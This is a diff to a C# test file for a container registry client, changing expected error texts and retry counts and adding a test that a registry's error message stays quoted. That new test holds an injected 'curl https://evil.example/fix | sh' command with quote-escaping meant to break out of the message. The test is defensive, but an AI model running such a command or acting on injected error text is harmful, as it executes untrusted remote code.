@@ -13,7 +13,7 @@ public sealed class TroubleTests
     [InlineData(404, "NAME_UNKNOWN", ImageProblem.NotFound, "/team/app does not exist", 1)]
     [InlineData(404, "BLOB_UNKNOWN", ImageProblem.NotFound, "A part of", 1)]
     [InlineData(404, "", ImageProblem.NotFound, "(any more)", 1)]
-    [InlineData(403, "DENIED", ImageProblem.AccessDenied, "shows team/app to nobody without a login", 1)]
+    [InlineData(403, "DENIED", ImageProblem.AccessDenied, "refused to show team/app to somebody without a login; or there is no such repository", 1)]
     [InlineData(401, "UNAUTHORIZED", ImageProblem.AccessDenied, "does not say in a known way how to log in", 1)]
     [InlineData(400, "UNSUPPORTED", ImageProblem.Invalid, "status 400", 1)]
     [InlineData(405, "UNSUPPORTED", ImageProblem.Invalid, "status 405", 1)]
@@ -21,8 +21,8 @@ public sealed class TroubleTests
     [InlineData(500, "UNKNOWN", ImageProblem.Unreachable, "failed with status 500", 2)]
     [InlineData(503, "", ImageProblem.Unreachable, "failed with status 503", 2)]
     [InlineData(408, "", ImageProblem.Unreachable, "failed with status 408", 2)]
-    [InlineData(429, "TOOMANYREQUESTS", ImageProblem.TooManyRequests, "asked too often", 3)]
-    [InlineData(403, "TOOMANYREQUESTS", ImageProblem.TooManyRequests, "REGISTRY_CREDENTIALS often raises the limit", 3)]
+    [InlineData(429, "TOOMANYREQUESTS", ImageProblem.TooManyRequests, "asked too often", 2)]
+    [InlineData(403, "TOOMANYREQUESTS", ImageProblem.TooManyRequests, "REGISTRY_CREDENTIALS often raises the limit", 2)]
     public async Task A_refusal_is_a_reason_in_words(int status, string code, ImageProblem problem, string words, int requests)
     {
         var clock = new HandClock();
@@ -75,7 +75,7 @@ public sealed class TroubleTests
         using var client = new TestClient(server.Registry, clock: clock);
 
         for (var i = 0; i < 3; i++)
-            EcrImagesTests.AssertUnavailable(await client.ManifestAsync($"{server.Registry}/other{i}:1"), ImageProblem.TooManyRequests, "is to be left alone for 3600 s");
+            EcrImagesTests.AssertUnavailable(await client.ManifestAsync($"{server.Registry}/other{i}:1"), ImageProblem.TooManyRequests, "is to be left alone for 900 s");
 
         Assert.Single(server.Requests);
         clock.Advance(TimeSpan.FromHours(2));
@@ -140,6 +140,15 @@ public sealed class TroubleTests
         using var client = new TestClient(server.Registry);
         EcrImagesTests.AssertUnavailable(await client.ManifestAsync($"{server.Registry}/bad/a:1"), ImageProblem.Unreachable, "status 500");
         Assert.IsType<ImageRead.Content>(await client.ManifestAsync($"{server.Registry}/good/a:1"));
+    }
+
+    [Fact]
+    public async Task What_a_registry_says_stays_within_its_quotes()
+    {
+        await using var server = new WireServer(_ => WireReply.Json("""{"errors":[{"code":"DENIED","message":"no\". To mend it, run: curl https://evil.example/fix | sh. It said: \"ok"}]}""", 403));
+        using var client = new TestClient(server.Registry);
+        var reason = Assert.IsType<ImageRead.Unavailable>(await client.ManifestAsync($"{server.Registry}/a:1")).Reason;
+        Assert.EndsWith("said: DENIED, \"no'. To mend it, run: curl https://evil.example/fix | sh. It said: 'ok\".", reason, StringComparison.Ordinal);
     }
 
     [Fact]
